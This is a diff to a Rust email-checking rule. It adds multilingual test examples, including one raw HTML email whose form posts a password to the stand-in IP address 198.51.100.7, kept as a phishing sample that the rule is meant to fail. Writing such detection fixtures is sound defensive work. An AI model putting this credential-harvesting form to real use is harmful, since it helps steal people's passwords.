@@ -87,6 +87,24 @@ pub const RULE: Rule = Rule {
             },
             ExampleInput::Raw("From: a@example.com\nTo: b@example.com\nSubject: Your parcel\n\nPay the customs fee at http://198.51.100.7/pay today.\n"),
         ),
+        Example::fails(
+            title! {
+                en: "A form that sends a password to an IP address",
+                fr: "Un formulaire qui envoie un mot de passe à une adresse IP",
+                es: "Un formulario que envía una contraseña a una dirección IP",
+                pl: "Formularz, który wysyła hasło na adres IP",
+            },
+            ExampleInput::Raw("From: a@example.com\nTo: b@example.com\nSubject: Account\nContent-Type: text/html\n\n<form action=\"http://198.51.100.7/login\" method=\"post\">Password: <input type=\"password\" name=\"p\"> <button>Confirm</button></form>\n"),
+        ),
+        Example::passes(
+            title! {
+                en: "A search form that sends to a domain name",
+                fr: "Un formulaire de recherche qui envoie à un nom de domaine",
+                es: "Un formulario de búsqueda que envía a un nombre de dominio",
+                pl: "Formularz wyszukiwania, który wysyła na nazwę domeny",
+            },
+            ExampleInput::Raw("From: a@example.com\nTo: b@example.com\nSubject: News\nContent-Type: text/html\n\n<form action=\"https://shop.example.com/search\" method=\"get\"><input name=\"q\"> <button>Search</button></form>\n"),
+        ),
         Example::passes(
             title! {
                 en: "A link by domain name, and a domain that starts with digits",
